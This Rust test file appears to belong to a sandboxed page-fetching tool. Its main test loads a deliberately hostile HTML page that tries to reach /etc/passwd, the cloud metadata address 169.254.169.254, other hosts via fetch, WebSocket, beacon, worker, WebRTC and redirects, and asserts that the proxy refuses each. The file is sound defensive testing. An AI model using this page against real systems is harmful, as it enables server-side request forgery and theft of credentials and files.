//! A hostile page in the browser, which reaches nothing but what its fence allows.

use std::net::UdpSocket;

use smallprint::model::{FailureKind, Outcome};

use super::{OPT_OUT, asked, capture, chromium, scene};
use crate::site::{Answer, Site};

/// A page that tries every way out.
const HOSTILE: &str = r#"<!doctype html><html lang="en"><head><title>Hostile</title><link rel="icon" href="data:,">
<link rel="dns-prefetch" href="//elsewhere.example"><link rel="preconnect" href="http://OTHER/"></head>
<body><main><h1>Hostile</h1><p>OPT_OUT</p><p id="told"></p></main>
<iframe src="file:///etc/passwd"></iframe><iframe src="http://127.0.0.1.nip.example/"></iframe>
<img src="http://OTHER/image"><img src="http://169.254.169.254/latest/meta-data/">
<script>
alert('nobody is there');
const tried = [];
const attempt = (name, way) => { try { tried.push(way()); } catch (error) { } };
attempt('other', () => fetch('http://OTHER/fetched', { mode: 'no-cors' }));
attempt('meta', () => fetch('http://[::ffff:169.254.169.254]/', { mode: 'no-cors' }));
attempt('post', () => fetch('http://10.0.0.1/', { method: 'POST', body: 'x', mode: 'no-cors' }));
attempt('socket', () => new WebSocket('ws://OTHER/socket'));
attempt('beacon', () => navigator.sendBeacon('http://OTHER/beacon', 'x'));
attempt('worker', () => new Worker(URL.createObjectURL(new Blob(
  ["fetch('http://OTHER/worker', { mode: 'no-cors' }).catch(() => 0)"]))));
attempt('popup', () => open('http://OTHER/popup'));
attempt('download', () => { const link = document.createElement('a');
  link.href = 'data:application/octet-stream,x'; link.download = 'dropped'; document.body.append(link); link.click(); });
attempt('rtc', () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] });
  peer.createDataChannel('x'); return peer.createOffer().then(offer => peer.setLocalDescription(offer)); });
attempt('away', () => { location = 'http://OTHER/away'; });
Promise.allSettled(tried).then(() => { document.getElementById('told').textContent = 'Everything was tried.'; });
</script></body></html>"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_reaches_nothing_but_its_own_host() {
    let Some((chromium, _alone)) = chromium().await else {
        return;
    };
    let other = Site::start();
    let packets = UdpSocket::bind("127.0.0.1:0").expect("a socket");
    packets
        .set_nonblocking(true)
        .expect("it need not be waited on");
    let udp = packets.local_addr().expect("an address").to_string();
    let scene = scene(&chromium, "").await;
    let page = HOSTILE
        .replace("OTHER", &format!("127.0.0.1:{}", other.port()))
        .replace("UDP", &udp)
        .replace("OPT_OUT", OPT_OUT);
    scene.plays("/app", Answer::html(&page));
    let report = scene.look().await;
    assert_eq!(report.outcome, Outcome::Appeared, "{report:?}");

    let reached: Vec<String> = other
        .asked()
        .into_iter()
        .map(|asked| asked.target)
        .collect();
    assert_eq!(reached, Vec::<String>::new());
    assert_eq!(other.connections(), 0);
    assert!(
        packets.recv(&mut [0; 64]).is_err(),
        "a packet went past the proxy"
    );

    let capture = capture(&scene, &report).await;
    let refused = |host: &str| {
        asked(&capture)
            .iter()
            .filter(|asked| asked.host == host)
            .find_map(|asked| asked.refused.clone())
    };
    println!("the hostile page asked for {:?}", asked(&capture));
    let place = format!("127.0.0.1:{}", other.port());
    let why = refused(&place).expect("the other port is on the list");
    assert_eq!(
        why,
        format!("port {} is not one that pages may ask", other.port())
    );
    // Some ways a careful browser closes by itself; whatever it asks the proxy for is refused.
    let others = asked(&capture)
        .iter()
        .filter(|asked| asked.host != "nhs.example:80");
    for asked in others {
        assert!(asked.refused.is_some() && asked.bytes == 0, "{asked:?}");
    }
    let body = scene.house.store.body(capture.body).await.expect("a body");
    let body = String::from_utf8_lossy(&body);
    assert!(body.contains("Everything was tried."), "{body}");
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_builds_itself_without_end_is_too_large() {
    let Some((chromium, _alone)) = chromium().await else {
        return;
    };
    let scene = scene(&chromium, "max_body = \"100KiB\"").await;
    let page = "<!doctype html><title>Long</title><main></main><script>\
                document.querySelector('main').textContent = 'on and on '.repeat(20000);</script>";
    scene.plays("/app", Answer::html(page));
    let failure = scene.look().await.failure.expect("a failure");
    assert_eq!(failure.kind, FailureKind::TooLarge, "{failure:?}");
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_no_page_is_not_built() {
    let Some((chromium, _alone)) = chromium().await else {
        return;
    };
    let scene = scene(&chromium, "").await;
    let text = format!("{OPT_OUT}\n\nThe data are held for two years and then destroyed.");
    scene.plays("/app", Answer::text(&text));
    let report = scene.look().await;
    let landed = scene.landed(&report).await;
    assert!(landed.beside.is_empty());
    scene.end().await;
}
